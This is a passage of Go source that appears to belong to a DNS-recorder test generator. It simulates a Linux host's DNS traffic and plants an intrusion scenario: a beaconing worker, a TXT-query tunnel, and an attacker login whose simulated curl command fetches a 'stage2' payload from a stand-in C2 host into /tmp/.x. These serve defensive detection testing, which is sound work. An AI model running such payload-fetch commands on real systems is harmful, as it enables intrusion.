package gen

import (
	"container/heap"
	"context"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"
	"strings"
	"time"

	"github.com/miekg/dns"

	"github.com/dnsrec/dnsrec/record/store"
)

// obsPerLookup is about how many observations a lookup makes on average,
// to space the first lookups; respace corrects it as the run goes.
const obsPerLookup = 7

// chunkOps is how many Store calls go to the writer at a time.
const chunkOps = 4096

// model is the simulated host and its DNS traffic. It runs in one
// goroutine, makes every decision from one seeded generator, and hands the
// writer Store calls in the order a recording would make them.
type model struct {
	cfg   Config
	rng   *rand.Rand
	names *nameModel

	anchorWall, anchorBoot int64 // the session's clock anchor
	now                    int64 // wall-clock ns of the lookup being made
	gap                    float64

	lastPID     uint32
	cookie      uint64 // last socket cookie
	dnsmasq     *proc
	dnsmasqSock uint64 // its listening socket
	actors      []actor
	totalWeight float64
	tools       []*tool
	sessions    []*sshSession // idle ssh sessions, for the next tool
	sshd, cron  *proc
	postfix     *proc
	unattended  *proc
	beacon      *proc
	tunnel      *proc
	tunnelSeq   int64
	filler      *proc // asks the queries still in flight at the stop
	cache       map[uint64]cached
	events      []event // scheduled, by time
	incident    bool    // the incident has been scheduled

	// What is built but not yet handed over, by time.
	pending  itemHeap
	staged   []*item
	stagedN  int64 // observations in staged
	planned  int64 // observations built (handed over or pending)
	seq      uint64
	out      []op
	emit     func([]op) error
	lastMsg  int64
	lastProc int64
	// lastEmitted is the time of the last row or exit handed over.
	lastEmitted int64

	// Counts for Facts, taken as rows are handed over.
	f        Facts
	answered int64
	names1   map[uint64]struct{} // hashes of the names written
	tally    map[tallyKey]*tallyRow
	probe    string // the probe address's first three octets and a dot
}

// cached is a dnsmasq cache entry.
type cached struct{ stored, expires int64 }

type event struct {
	ts int64
	fn func()
}

func newModel(cfg Config) *model {
	rng := rand.New(rand.NewPCG(cfg.Seed, cfg.Seed^0x9e3779b97f4a7c15))
	m := &model{
		cfg: cfg, rng: rng,
		anchorWall: cfg.Start.UnixNano(),
		anchorBoot: int64(3*24*time.Hour + 4*time.Hour + 17*time.Minute), // up three days when the recording starts
		cache:      map[uint64]cached{},
		names1:     map[uint64]struct{}{},
		tally:      map[tallyKey]*tallyRow{},
		lastPID:    2000, // above the daemons started at boot, which have fixed pids
		cookie:     40961,
	}
	m.now = m.anchorWall
	m.gap = float64(cfg.Duration) / (float64(cfg.Messages) / obsPerLookup)
	m.names = newNameModel(rng, cfg.Seed, cfg.Messages)
	m.f.Seed, m.f.Host, m.f.Start = cfg.Seed, "web-prod-03", cfg.Start
	m.f.BusyName = m.names.head[0]
	a := m.names.answer(m.f.BusyName, dns.TypeA, 0)
	for _, rr := range a.ans {
		if r, ok := rr.(*dns.A); ok {
			ip := netip.AddrFrom4([4]byte(r.A.To4()))
			m.f.Probe.IP = ip.String()
			m.f.Probe.CIDR = netip.PrefixFrom(ip, 24).Masked().String()
			m.probe = strings.TrimSuffix(m.f.Probe.CIDR, "0/24")
			break
		}
	}
	m.f.Incident = Incident{Name: incidentName, Domain: incidentDomain, CNAME: incidentCNAME, IP: incidentIP}
	m.f.Tunnel.Domain = tunnelDomain
	m.setup()
	return m
}

func (m *model) session() store.Session {
	return store.Session{
		Hostname: m.f.Host, MachineID: fmt.Sprintf("%016x%016x", mix(m.cfg.Seed), mix(m.cfg.Seed+1)),
		BootID: fmt.Sprintf("%08x-%04x-4%03x-a%03x-%012x", uint32(mix(m.cfg.Seed+2)), uint16(mix(m.cfg.Seed+3)), mix(m.cfg.Seed+4)%0x1000, mix(m.cfg.Seed+5)%0x1000, mix(m.cfg.Seed+6)%(1<<48)),
		Kernel: "6.1.0-18-amd64", Version: fmt.Sprintf("gen-v%d", Version), Cmdline: "dnsrec record -o case.db",
		Hook: "cgroup", Ports: "53", Snaplen: 65536, // the recorder's default: every message whole
		StartedNs: m.anchorWall, AnchorWallNs: m.anchorWall, AnchorBootNs: m.anchorBoot,
	}
}

// boot converts wall-clock ns to the boot clock.
func (m *model) boot(wall int64) uint64 { return uint64(wall - m.anchorWall + m.anchorBoot) }

// actor is a long-lived process that looks names up all day, with its
// share of the lookups.
type actor struct {
	weight float64
	p      *proc
	pick   func() string // the name; nil: nameModel.general
	qtypes []uint16
}

var (
	aAndAAAA = []uint16{dns.TypeA, dns.TypeAAAA}
	onlyA    = []uint16{dns.TypeA}
)

// setup builds the host: systemd's services, five containers, and the
// actors' shares of the traffic.
func (m *model) setup() {
	boot := func(sec float64) uint64 { return uint64(sec * 1e9) }
	systemd := m.spawn(nil, procSpec{comm: "systemd", exe: "/usr/lib/systemd/systemd", argv: []string{"/sbin/init"}, source: "procfs"}, boot(0.4)).fixedPID(1)
	daemon := func(pid uint32, comm, exe string, argv []string, uid uint32, cgroup uint64, start float64) *proc {
		p := m.spawn(systemd, procSpec{comm: comm, exe: exe, argv: argv, uid: uid, gid: uid, source: "procfs"}, boot(start)).fixedPID(pid)
		p.cgroup = cgroup
		p.threads[0].CgroupID = cgroup
		return p
	}
	m.dnsmasq = daemon(712, "dnsmasq", "/usr/sbin/dnsmasq", []string{"/usr/sbin/dnsmasq", "-x", "/run/dnsmasq/dnsmasq.pid", "-u", "dnsmasq", "-7", "/etc/dnsmasq.d"}, 108, 2101, 6.2)
	m.dnsmasq.addr, m.dnsmasq.resolver, m.dnsmasq.viaDnsmasq, m.dnsmasq.edns = hostAddr, upstreamAddr, false, true
	m.dnsmasqSock = m.newCookie()
	m.cron = daemon(611, "cron", "/usr/sbin/cron", []string{"/usr/sbin/cron", "-f"}, 0, 2102, 5.9)
	chronyd := daemon(655, "chronyd", "/usr/sbin/chronyd", []string{"/usr/sbin/chronyd", "-F", "1"}, 105, 2103, 6.0)
	snapd := daemon(733, "snapd", "/usr/lib/snapd/snapd", []string{"/usr/lib/snapd/snapd"}, 0, 2104, 6.4)
	m.sshd = daemon(840, "sshd", "/usr/sbin/sshd", []string{"sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"}, 0, 2105, 7.1)
	containerd := daemon(905, "containerd", "/usr/bin/containerd", []string{"/usr/bin/containerd"}, 0, 2106, 7.8)
	dockerd := daemon(930, "dockerd", "/usr/sbin/dockerd", []string{"/usr/sbin/dockerd", "-H", "fd://", "--containerd=/run/containerd/containerd.sock"}, 0, 2107, 8.3)
	m.threadsNamed(dockerd, 6, "dockerd")
	nginx := daemon(1012, "nginx", "/usr/sbin/nginx", []string{"nginx: master process /usr/sbin/nginx -g daemon on; master_process on;"}, 0, 2108, 9.0)
	var workers []*proc
	for i := range 4 {
		w := m.spawn(nginx, procSpec{comm: "nginx", exe: "/usr/sbin/nginx", argv: []string{"nginx: worker process"}, uid: 33, gid: 33, source: "procfs"}, boot(9.1)).fixedPID(uint32(1013 + i))
		workers = append(workers, w)
	}
	m.postfix = daemon(1210, "master", "/usr/lib/postfix/sbin/master", []string{"/usr/lib/postfix/sbin/master", "-w"}, 0, 2109, 10.2)
	m.unattended = daemon(1290, "unattended-upgr", "/usr/bin/python3.11", []string{"/usr/bin/python3", "/usr/share/unattended-upgrades/unattended-upgrade-shutdown", "--wait-for-signal"}, 0, 2110, 10.9)
	telegraf := daemon(1340, "telegraf", "/usr/bin/telegraf", []string{"/usr/bin/telegraf", "-config", "/etc/telegraf/telegraf.conf"}, 998, 2111, 11.3)
	m.threadsNamed(telegraf, 5, "telegraf")

	// Containers: runc's shim (reparented to systemd), then the payload
	// in its own namespaces, asking the host's dnsmasq on docker0 or, with
	// direct, the upstream resolver.
	started := 2*3600 + 11.0
	box := func(k int, direct bool, s procSpec) *proc {
		shim := m.spawn(systemd, procSpec{comm: "containerd-shim", exe: "/usr/bin/containerd-shim-runc-v2",
			argv:   []string{"/usr/bin/containerd-shim-runc-v2", "-namespace", "moby", "-id", fmt.Sprintf("%016x%016x%016x%016x", mix(uint64(k)), mix(uint64(k)+1), mix(uint64(k)+2), mix(uint64(k)+3)), "-address", "/run/containerd/containerd.sock"},
			source: "procfs"}, boot(started+float64(k)))
		shim.cgroup = 2106
		shim.threads[0].CgroupID = 2106
		s.source = "procfs"
		app := m.spawn(shim, s, boot(started+float64(k)+0.3))
		m.container(app, k, direct)
		return app
	}
	java := box(0, false, // orders-api, on dnsmasq at docker0 like the next two
		procSpec{comm: "java", exe: "/opt/java/openjdk/bin/java", argv: []string{"java", "-Xmx2g", "-jar", "/app/orders.jar"}, uid: 1001, gid: 1001})
	m.threadsNamed(java, 8, "http-nio-8080-e")
	m.threadsNamed(java, 1, "HikariPool-1 ho")
	m.threadsNamed(java, 2, "kafka-producer-")
	node := box(1, false, // frontend
		procSpec{comm: "node", exe: "/usr/local/bin/node", argv: []string{"node", "server.js"}, uid: 1000, gid: 1000})
	m.threadsNamed(node, 4, "libuv-worker")
	celery := box(2, true, // worker, configured with the upstream resolver
		procSpec{comm: "celery", exe: "/usr/local/bin/python3.11", argv: []string{"/usr/local/bin/python3", "/usr/local/bin/celery", "-A", "tasks", "worker", "-c", "4"}, uid: 1000, gid: 1000})
	var celeryWorkers []*proc
	for i := range 4 {
		w := m.spawn(celery, procSpec{comm: "celery", source: "inherited", uid: 1000, gid: 1000, nspid: uint32(8 + i)}, boot(started+2.9))
		w.threads[0].NSPID = w.nspid
		celeryWorkers = append(celeryWorkers, w)
	}
	m.beacon = celeryWorkers[3]
	m.beacon.alwaysKnown = true
	prom := box(3, false, // monitoring
		procSpec{comm: "prometheus", exe: "/bin/prometheus", argv: []string{"/bin/prometheus", "--config.file=/etc/prometheus/prometheus.yml", "--storage.tsdb.path=/prometheus"}, uid: 65534, gid: 65534})
	m.threadsNamed(prom, 6, "prometheus")
	agentSh := box(4, true, // sync-agent: the tunnel
		procSpec{comm: "sh", exe: "/bin/dash", argv: []string{"/bin/sh", "-c", "python3 /opt/agent/sync.py"}})
	m.tunnel = m.spawn(agentSh, procSpec{comm: "python3", exe: "/usr/bin/python3.11", argv: []string{"python3", "/opt/agent/sync.py"}, source: "procfs", nspid: 7}, boot(started+4.6))
	m.tunnel.threads[0].NSPID = 7
	m.tunnel.edns = true
	m.tunnel.alwaysKnown = true
	m.filler = celery // direct: a query in flight is one observation

	registries := []string{"registry-1.docker.io", "auth.docker.io", "production.cloudflare.docker.com"}
	m.actors = []actor{
		{weight: 0.17, p: telegraf},
		{weight: 0.18, p: java},
		{weight: 0.12, p: node},
		{weight: 0.10, p: prom},
		{weight: 0.02, p: dockerd, pick: func() string { return registries[m.rng.IntN(len(registries))] }},
		{weight: 0.01, p: containerd, pick: func() string { return registries[m.rng.IntN(len(registries))] }},
		{weight: 0.003, p: chronyd, pick: func() string { return fmt.Sprintf("%d.debian.pool.ntp.org", m.rng.IntN(4)) }},
		{weight: 0.005, p: snapd, pick: func() string { return "api.snapcraft.io" }},
		{weight: 0.02, p: m.tunnel, qtypes: []uint16{dns.TypeTXT}, pick: func() string {
			m.tunnelSeq++
			return tunnelName(m.rng, m.tunnelSeq)
		}},
	}
	for _, w := range workers {
		m.actors = append(m.actors, actor{weight: 0.04, p: w})
	}
	for _, w := range celeryWorkers {
		m.actors = append(m.actors, actor{weight: 0.03, p: w})
	}
	for i := range m.actors {
		if m.actors[i].qtypes == nil {
			m.actors[i].qtypes = aAndAAAA
		}
		m.totalWeight += m.actors[i].weight
	}
	m.totalWeight += toolShare

	// The compromised celery worker beacons every half hour.
	for t := m.anchorWall + int64(17*time.Minute); t < m.anchorWall+int64(m.cfg.Duration); t += int64(30 * time.Minute) {
		m.at(t, func() { m.ask(m.beacon, m.beacon.threads[0], beaconName, onlyA) })
	}
}

// toolShare is the share of lookups made by short-lived processes: tools
// in ssh sessions and cron jobs, postfix's smtp clients, apt.
const toolShare = 0.07

// at schedules fn at wall-clock time ts.
func (m *model) at(ts int64, fn func()) {
	i, _ := slices.BinarySearchFunc(m.events, ts, func(e event, ts int64) int {
		if e.ts <= ts {
			return -1
		}
		return 1
	})
	m.events = slices.Insert(m.events, i, event{ts, fn})
}

func (m *model) newCookie() uint64 {
	m.cookie += 1 + uint64(m.rng.IntN(4))
	return m.cookie
}

func (m *model) ephemeralPort() uint16 { return uint16(32768 + m.rng.IntN(28232)) }

// run builds the traffic until Config.Messages observations, handing Store
// calls to emit in chunks.
func (m *model) run(ctx context.Context, emit func([]op) error) error {
	m.emit = emit
	for i := 0; m.planned < m.cfg.Messages; i++ {
		if i%1024 == 0 {
			if err := ctx.Err(); err != nil {
				return err
			}
		}
		if i > 0 && i%4096 == 0 {
			m.respace(i)
		}
		next := m.now + int64(m.rng.ExpFloat64()*m.gap)
		for len(m.events) > 0 && m.events[0].ts <= next && m.planned < m.cfg.Messages {
			ev := m.events[0]
			m.events = m.events[1:]
			if err := m.advance(ev.ts); err != nil {
				return err
			}
			ev.fn()
			m.commitStaged()
		}
		if m.planned >= m.cfg.Messages {
			break
		}
		if err := m.advance(next); err != nil {
			return err
		}
		if !m.incident && m.planned >= m.cfg.Messages*2/5 {
			m.incident = true
			m.scheduleIncident()
		}
		m.lookup()
		m.commitStaged()
	}
	for m.pending.Len() > 0 {
		m.emitItem(heap.Pop(&m.pending).(*item))
	}
	if len(m.out) > 0 {
		return m.emit(m.out)
	}
	return nil
}

// respace sets the mean gap between lookups from the observations each
// has made so far, so that the last one lands near Start+Duration.
func (m *model) respace(lookups int) {
	left := float64(m.anchorWall + int64(m.cfg.Duration) - m.now)
	perLookup := float64(m.planned) / float64(lookups)
	m.gap = max(1000, left/(float64(m.cfg.Messages-m.planned)/perLookup))
}

// advance moves the clock to t, handing over everything built before it.
func (m *model) advance(t int64) error {
	m.now = max(m.now, t)
	for m.pending.Len() > 0 && m.pending[0].ts <= t {
		m.emitItem(heap.Pop(&m.pending).(*item))
	}
	if len(m.out) >= chunkOps {
		err := m.emit(m.out)
		m.out = make([]op, 0, chunkOps+64)
		return err
	}
	return nil
}

// commitStaged makes what the last lookup built part of the recording, if
// it fits in Config.Messages. If it does not, the recording ends with
// queries still waiting for their responses, as a stop mid-traffic does.
func (m *model) commitStaged() {
	if m.planned+m.stagedN > m.cfg.Messages {
		m.staged, m.stagedN = m.staged[:0], 0
		for m.planned < m.cfg.Messages {
			p := m.filler
			q := m.queryRow(netip.AddrPortFrom(p.addr, m.ephemeralPort()), p.resolver, uint16(m.rng.Uint32()), m.names.general(m.rng), dns.TypeA, p.edns)
			m.now += int64(m.rng.IntN(200_000))
			q.row.Send = store.Side{Seen: true, TsNs: m.now, Cookie: m.newCookie(), Ident: p.threads[0]}
			m.stage(&item{row: q.row, send: p, query: nil, isQuery: true, outcome: -1})
			m.planned += m.stagedN
			for _, it := range m.staged {
				m.push(it)
			}
			m.staged, m.stagedN = m.staged[:0], 0
		}
		return
	}
	m.planned += m.stagedN
	for _, it := range m.staged {
		m.push(it)
	}
	m.staged, m.stagedN = m.staged[:0], 0
}

// lookup is one process resolving one name: an actor's, or a tool's.
func (m *model) lookup() {
	x := m.rng.Float64() * m.totalWeight
	for i := range m.actors {
		a := &m.actors[i]
		if x < a.weight {
			name := ""
			if a.pick != nil {
				name = a.pick()
			} else {
				name = m.names.general(m.rng)
			}
			m.ask(a.p, a.p.threads[m.rng.IntN(len(a.p.threads))], name, a.qtypes)
			return
		}
		x -= a.weight
	}
	m.toolLookup()
}

// query is a query's row and message, for the response to answer.
type query struct {
	row *store.MsgRow
	msg *dns.Msg
}

func (m *model) queryRow(src, dst netip.AddrPort, id uint16, name string, qtype uint16, edns bool) query {
	q := new(dns.Msg)
	q.SetQuestion(dns.Fqdn(name), qtype)
	q.Id = id
	if edns {
		q.SetEdns0(1232, false)
	}
	return query{row: m.row(src, dst, q), msg: q}
}

func (m *model) row(src, dst netip.AddrPort, msg *dns.Msg) *store.MsgRow {
	raw, err := msg.Pack()
	if err != nil {
		panic(fmt.Sprintf("gen: pack %v: %v", msg.Question, err)) // the generator's own messages: a bug
	}
	return &store.MsgRow{Proto: "udp", Src: src, Dst: dst, DNS: store.ParseDNS(raw), OrigLen: len(raw), Raw: raw}
}

// response is the reply to q with answer a, from src to dst.
func (m *model) response(src, dst netip.AddrPort, q *dns.Msg, a answer) *store.MsgRow {
	r := new(dns.Msg)
	r.SetReply(q)
	r.RecursionAvailable = true
	r.Rcode = a.rcode
	r.Answer, r.Ns = a.ans, a.ns
	r.Compress = true
	if q.IsEdns0() != nil {
		r.SetEdns0(1232, false)
	}
	return m.row(src, dst, r)
}

// rtt is the upstream resolver's time to answer.
func (m *model) rtt() int64 {
	return int64(700*time.Microsecond) + min(int64(m.rng.ExpFloat64()*float64(15*time.Millisecond)), int64(2*time.Second))
}

// ask is p (thread t) resolving name: one query per qtype, sent together
// from one socket, as getaddrinfo does. It returns when p got its last
// response.
func (m *model) ask(p *proc, t *store.Identity, name string, qtypes []uint16) int64 {
	port, cookie := m.ephemeralPort(), m.newCookie()
	end := m.now
	for i, qt := range qtypes {
		tq := m.now + int64(i)*int64(20_000+m.rng.IntN(40_000))
		id := uint16(m.rng.Uint32())
		var done int64
		if p.viaDnsmasq {
			done = m.viaDnsmasq(p, t, port, cookie, tq, id, name, qt)
		} else {
			done = m.direct(p, t, port, cookie, tq, id, name, qt)
		}
		end = max(end, done)
	}
	return end
}

// ident is t, or nil for the rare message whose owner the recorder could
// not identify (never for the incident's and tunnel's processes).
func (m *model) ident(p *proc, t *store.Identity) *store.Identity {
	if p.alwaysKnown || m.rng.IntN(5000) != 0 {
		return t
	}
	return nil
}

// direct is a query straight to the upstream resolver, seen on this host
// by its client only. About 1% get no answer; half of those are sent again
// 5 s later with the same id, as the resolver library retries.
func (m *model) direct(p *proc, t *store.Identity, port uint16, cookie uint64, tq int64, id uint16, name string, qt uint16) int64 {
	src := netip.AddrPortFrom(p.addr, port)
	q := m.queryRow(src, p.resolver, id, name, qt, p.edns)
	q.row.Send = store.Side{Seen: true, TsNs: tq, Cookie: cookie, Ident: m.ident(p, t)}
	qi := m.stage(&item{row: q.row, send: p, isQuery: true, outcome: -1})
	if m.rng.IntN(100) == 0 {
		if m.rng.IntN(2) == 0 {
			return tq
		}
		tq += int64(5 * time.Second)
		again := &store.MsgRow{Proto: "udp", Src: src, Dst: p.resolver, DNS: store.ParseDNS(q.row.Raw), OrigLen: len(q.row.Raw), Raw: q.row.Raw}
		again.Send = store.Side{Seen: true, TsNs: tq, Cookie: cookie, Ident: m.ident(p, t)}
		qi = m.stage(&item{row: again, send: p, isQuery: true, outcome: -1, retry: true})
	}
	a := m.names.answer(name, qt, 0)
	tr := tq + m.rtt()
	r := m.response(p.resolver, src, q.msg, a)
	r.Recv = store.Side{Seen: true, TsNs: tr, Cookie: cookie, Ident: m.ident(p, t)}
	m.stage(&item{row: r, recv: p, query: qi})
	qi.outcome = a.rcode
	return tr
}

// viaDnsmasq is a query to the host's dnsmasq, on loopback or on docker0
// (seen by both ends: one row each way), answered from its cache or
// forwarded upstream (seen by dnsmasq only).
func (m *model) viaDnsmasq(p *proc, t *store.Identity, port uint16, cookie uint64, tq int64, id uint16, name string, qt uint16) int64 {
	d := m.dnsmasq
	src := netip.AddrPortFrom(p.addr, port)
	q := m.queryRow(src, p.resolver, id, name, qt, p.edns)
	tr := tq + int64(8_000+m.rng.IntN(10_000))
	q.row.Send = store.Side{Seen: true, TsNs: tq, Cookie: cookie, Ident: m.ident(p, t)}
	q.row.Recv = store.Side{Seen: true, TsNs: tr, Server: true, Cookie: m.dnsmasqSock, Ident: d.threads[0]}
	qi := m.stage(&item{row: q.row, send: p, recv: d, isQuery: true, outcome: -1})

	key := fnv(name) ^ uint64(qt)*0x9e3779b97f4a7c15
	ts := tr + int64(15_000+m.rng.IntN(20_000))
	var a answer
	if c, ok := m.cache[key]; ok && c.expires > ts {
		a = m.names.answer(name, qt, uint32((ts-c.stored)/1e9))
	} else {
		uport, ucookie := m.ephemeralPort(), m.newCookie()
		up := m.queryRow(netip.AddrPortFrom(d.addr, uport), upstreamAddr, uint16(m.rng.Uint32()), name, qt, true)
		up.row.Send = store.Side{Seen: true, TsNs: ts, Cookie: ucookie, Ident: d.threads[0]}
		ui := m.stage(&item{row: up.row, send: d, isQuery: true, outcome: -1})
		if m.rng.IntN(300) == 0 {
			return ts // the upstream never answers; neither does dnsmasq
		}
		a = m.names.answer(name, qt, 0)
		ts += m.rtt()
		ur := m.response(upstreamAddr, up.row.Src, up.msg, a)
		ur.Recv = store.Side{Seen: true, TsNs: ts, Cookie: ucookie, Ident: d.threads[0]}
		m.stage(&item{row: ur, recv: d, query: ui})
		ui.outcome = a.rcode
		m.cache[key] = cached{stored: ts, expires: ts + int64(a.minTTL)*1e9}
		if len(m.cache) > 500_000 {
			for k, c := range m.cache {
				if c.expires <= ts {
					delete(m.cache, k)
				}
			}
		}
		ts += int64(10_000 + m.rng.IntN(20_000))
	}
	r := m.response(p.resolver, src, q.msg, a)
	done := ts + int64(8_000+m.rng.IntN(10_000))
	r.Send = store.Side{Seen: true, TsNs: ts, Server: true, Cookie: m.dnsmasqSock, Ident: d.threads[0]}
	r.Recv = store.Side{Seen: true, TsNs: done, Cookie: cookie, Ident: m.ident(p, t)}
	m.stage(&item{row: r, send: d, recv: p, query: qi})
	qi.outcome = a.rcode
	return done
}

// tool is a short-lived process that makes a few lookups and exits.
type tool struct {
	p       *proc
	left    int
	kind    int
	pick    func() string
	qtypes  []uint16
	session *sshSession
	last    int64 // its last response
	parents []*proc
}

// sshSession is a login: sshd's privileged child, its unprivileged child,
// and the user's shell, which runs tools one after the other.
type sshSession struct {
	priv, user, shell *proc
	left              int // tools still to run
}

const (
	toolSSH = iota
	toolCron
	toolSMTP
	toolApt
)

// toolLookup is a lookup by a tool: one running, or one started for it.
func (m *model) toolLookup() {
	kind := toolSSH
	switch x := m.rng.Float64(); {
	case x < 0.43:
		kind = toolSMTP
	case x < 0.57:
		kind = toolCron
	case x < 0.64:
		kind = toolApt
	}
	var t *tool
	var running []*tool
	for _, c := range m.tools {
		if c.kind == kind {
			running = append(running, c)
		}
	}
	if len(running) == 0 || len(running) < 3 && m.rng.IntN(4) == 0 {
		t = m.startTool(kind)
	} else {
		t = running[m.rng.IntN(len(running))]
	}
	if kind == toolSMTP {
		// Mail: the domain's MX, then the mail server's addresses.
		dom := m.names.domain(m.rng)
		m.ask(t.p, t.p.threads[0], dom, []uint16{dns.TypeMX})
		t.last = m.ask(t.p, t.p.threads[0], "mx1."+dom, aAndAAAA)
	} else {
		t.last = m.ask(t.p, t.p.threads[0], t.pick(), t.qtypes)
	}
	if t.left--; t.left <= 0 {
		m.endTool(t)
	}
}

var sshTools = []struct {
	comm, exe string
	argv      func(name string) []string
	qtypes    []uint16
}{
	{"curl", "/usr/bin/curl", func(n string) []string { return []string{"curl", "-fsSL", "https://" + n + "/"} }, aAndAAAA},
	{"wget", "/usr/bin/wget", func(n string) []string { return []string{"wget", "-q", "https://" + n + "/"} }, aAndAAAA},
	{"git", "/usr/bin/git", func(n string) []string { return []string{"git", "pull"} }, aAndAAAA},
	{"ssh", "/usr/bin/ssh", func(n string) []string { return []string{"ssh", n} }, aAndAAAA},
	{"dig", "/usr/bin/dig", func(n string) []string { return []string{"dig", n} }, onlyA},
	{"host", "/usr/bin/host", func(n string) []string { return []string{"host", n} }, []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeMX}},
	{"python3", "/usr/bin/python3.11", func(string) []string { return []string{"python3", "deploy.py"} }, aAndAAAA},
	{"pip3", "/usr/bin/python3.11", func(string) []string {
		return []string{"/usr/bin/python3", "/usr/bin/pip3", "install", "-U", "requests"}
	}, aAndAAAA},
}

var admins = []struct {
	user string
	uid  uint32
}{{"alice", 1000}, {"bob", 1002}, {"carol", 1003}, {"ops", 1010}}

func (m *model) startTool(kind int) *tool {
	t := &tool{kind: kind, left: 1 + m.rng.IntN(12), qtypes: aAndAAAA}
	start := m.boot(m.now - int64(m.rng.IntN(int(50*time.Millisecond))))
	switch kind {
	case toolSSH:
		var s *sshSession
		if len(m.sessions) == 0 || len(m.sessions) < 4 && m.rng.IntN(3) == 0 {
			a := admins[m.rng.IntN(len(admins))]
			s = m.login(a.user, a.uid, netip.AddrFrom4([4]byte{192, 0, 2, byte(10 + m.rng.IntN(40))}), 3+m.rng.IntN(10))
			m.sessions = append(m.sessions, s)
		} else {
			s = m.sessions[m.rng.IntN(len(m.sessions))]
		}
		s.left--
		if s.left <= 0 {
			m.sessions = slices.DeleteFunc(m.sessions, func(x *sshSession) bool { return x == s })
			t.session = s
		}
		st := sshTools[m.rng.IntN(len(sshTools))]
		name := m.names.general(m.rng)
		t.p = m.spawn(s.shell, procSpec{comm: st.comm, exe: st.exe, argv: st.argv(name), uid: s.shell.uid, gid: s.shell.uid, source: "exec"}, start)
		t.qtypes = st.qtypes
		first := true
		t.pick = func() string {
			if first {
				first = false
				return name
			}
			return m.names.general(m.rng)
		}
	case toolCron:
		child := m.spawn(m.cron, procSpec{comm: "cron", source: "inherited"}, start)
		job := []struct{ comm, exe, cmd, name string }{
			{"curl", "/usr/bin/curl", "curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/1f0e", "hc-ping.com"},
			{"certbot", "/usr/bin/python3.11", "certbot -q renew", "acme-v02.api.letsencrypt.org"},
			{"rclone", "/usr/bin/rclone", "rclone sync /srv/backup s3:backups", "s3.eu-west-1.amazonaws.com"},
		}[m.rng.IntN(3)]
		sh := m.spawn(child, procSpec{comm: "sh", exe: "/usr/bin/dash", argv: []string{"/bin/sh", "-c", job.cmd}, source: "exec"}, start+1e6)
		t.p = m.spawn(sh, procSpec{comm: job.comm, exe: job.exe, argv: strings.Fields(job.cmd), source: "exec"}, start+2e6)
		t.parents = []*proc{sh, child}
		t.pick = func() string {
			if m.rng.IntN(3) == 0 {
				return m.names.general(m.rng)
			}
			return job.name
		}
	case toolSMTP:
		t.p = m.spawn(m.postfix, procSpec{comm: "smtp", exe: "/usr/lib/postfix/sbin/smtp", argv: []string{"smtp", "-n", "smtp", "-t", "unix", "-u", "-c"}, uid: 107, gid: 114, source: "exec"}, start)
		t.left += 10
	case toolApt:
		apt := m.spawn(m.unattended, procSpec{comm: "apt-get", exe: "/usr/bin/apt-get", argv: []string{"apt-get", "update"}, source: "exec"}, start)
		t.p = m.spawn(apt, procSpec{comm: "http", exe: "/usr/lib/apt/methods/http", argv: []string{"/usr/lib/apt/methods/http"}, uid: 42, gid: 65534, source: "exec"}, start+3e6)
		t.parents = []*proc{apt}
		mirrors := []string{"deb.debian.org", "security.debian.org", "download.docker.com", "packages.grafana.com"}
		t.pick = func() string { return mirrors[m.rng.IntN(len(mirrors))] }
	}
	m.tools = append(m.tools, t)
	return t
}

// login is an ssh login from addr: sshd's per-connection child looks the
// address up (UseDNS), then forks the user's side and the shell.
func (m *model) login(user string, uid uint32, addr netip.Addr, tools int) *sshSession {
	start := m.boot(m.now)
	s := &sshSession{left: tools}
	s.priv = m.spawn(m.sshd, procSpec{comm: "sshd", exe: "/usr/sbin/sshd", argv: []string{"sshd: " + user + " [priv]"}, source: "exec"}, start)
	m.ask(s.priv, s.priv.threads[0], reverseName(addr), []uint16{dns.TypePTR})
	s.user = m.spawn(s.priv, procSpec{comm: "sshd", uid: uid, gid: uid, source: "inherited"}, start+uint64(400*time.Millisecond))
	s.user.argv = []string{"sshd: " + user + "@pts/0"}
	s.shell = m.spawn(s.user, procSpec{comm: "bash", exe: "/usr/bin/bash", argv: []string{"-bash"}, uid: uid, gid: uid, source: "exec"}, start+uint64(450*time.Millisecond))
	return s
}

func reverseName(a netip.Addr) string {
	b := a.As4()
	return fmt.Sprintf("%d.%d.%d.%d.in-addr.arpa", b[3], b[2], b[1], b[0])
}

// endTool schedules the tool's exit (and its session's or job's end).
func (m *model) endTool(t *tool) {
	m.tools = slices.DeleteFunc(m.tools, func(x *tool) bool { return x == t })
	ts := t.last + int64(2*time.Millisecond) + int64(m.rng.IntN(int(50*time.Millisecond)))
	m.exit(t.p, ts)
	for i, p := range t.parents {
		m.exit(p, ts+int64(i+1)*int64(time.Millisecond))
	}
	if s := t.session; s != nil {
		m.logout(s, ts+int64(2*time.Second))
	}
}

func (m *model) logout(s *sshSession, ts int64) {
	m.exit(s.shell, ts)
	m.exit(s.user, ts+int64(3*time.Millisecond))
	m.exit(s.priv, ts+int64(5*time.Millisecond))
}

func (m *model) exit(p *proc, ts int64) {
	m.stage(&item{ts: ts, exit: p})
}

// scheduleIncident plants the compromise, starting now: a login from
// 198.51.100.23 as deploy; curl fetching from c2.evil.test three times,
// two minutes apart (its CNAME's TTL is 60 s, so dnsmasq asks upstream
// each time); nslookup of update.evil.test, which does not exist; logout.
func (m *model) scheduleIncident() {
	t0 := m.now
	var s *sshSession
	var curl, nslookup *proc
	m.at(t0, func() {
		s = m.login("deploy", 1001, netip.MustParseAddr("198.51.100.23"), 0)
	})
	m.at(t0+int64(41*time.Second), func() {
		curl = m.spawn(s.shell, procSpec{comm: "curl", exe: "/usr/bin/curl", argv: []string{"curl", "-sk", "--retry", "2", "--retry-delay", "120", "-o", "/tmp/.x", "https://" + incidentName + "/stage2"},
			uid: 1001, gid: 1001, source: "exec"}, m.boot(m.now-int64(3*time.Millisecond)))
		curl.alwaysKnown = true
		m.ask(curl, curl.threads[0], incidentName, aAndAAAA)
	})
	m.at(t0+int64(161*time.Second), func() { m.ask(curl, curl.threads[0], incidentName, aAndAAAA) })
	m.at(t0+int64(281*time.Second), func() {
		end := m.ask(curl, curl.threads[0], incidentName, aAndAAAA)
		m.exit(curl, end+int64(300*time.Millisecond))
	})
	m.at(t0+int64(412*time.Second), func() {
		nslookup = m.spawn(s.shell, procSpec{comm: "nslookup", exe: "/usr/bin/nslookup", argv: []string{"nslookup", incidentNX}, uid: 1001, gid: 1001, source: "exec"}, m.boot(m.now-int64(2*time.Millisecond)))
		nslookup.alwaysKnown = true
